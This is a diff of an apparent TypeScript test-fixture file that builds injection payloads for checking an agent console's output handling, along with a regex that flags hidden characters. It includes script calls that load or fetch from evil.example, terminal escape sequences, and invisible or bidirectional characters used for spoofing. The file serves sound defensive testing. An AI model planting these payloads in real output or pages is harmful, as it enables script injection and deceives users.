@@ -1,4 +1,4 @@
-/** What an agent might be made to say to those who look: markup, terminal sequences, letters that hide or turn others. */
+/** Injection payloads: markup, terminal escape sequences, invisible and bidirectional characters. */
 
 const CALLS = ["alert(1)", "alert`1`", "top.alert(1)", "import('//evil.example/x.js')", "fetch('//evil.example/')"];
 const MARKUP = [
@@ -51,7 +51,6 @@ const TERMINAL = ["\u001b[2J", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007",
 const TURNS = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"];
 const HIDES = ["\u200b", "\u200c", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u2028", "\u2029", "\u{e0041}", "\u{e0069}\u{e006d}\u{e0067}"];
 
-/** All of them. */
 export const PAYLOADS: string[] = [
   ...MARKUP.flatMap((markup) => CALLS.map((call) => markup.replace("%", call))),
   ...MARKDOWN,
@@ -60,5 +59,5 @@ export const PAYLOADS: string[] = [
   ...HIDES.flatMap((hidden) => [`ad${hidden}min`, `${hidden}${hidden}x`, `[pay](https://bank.example/${hidden}evil)`]),
 ];
 
-/** Letters of which none may reach a reader unseen. */
+/** Characters that the console must never show unmarked. */
 export const UNSEEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b\u200c\u200e\u200f\u2028-\u202e\u2060\u2066-\u2069\u3164\ufeff]|[\u{e0000}-\u{e0fff}]/u;
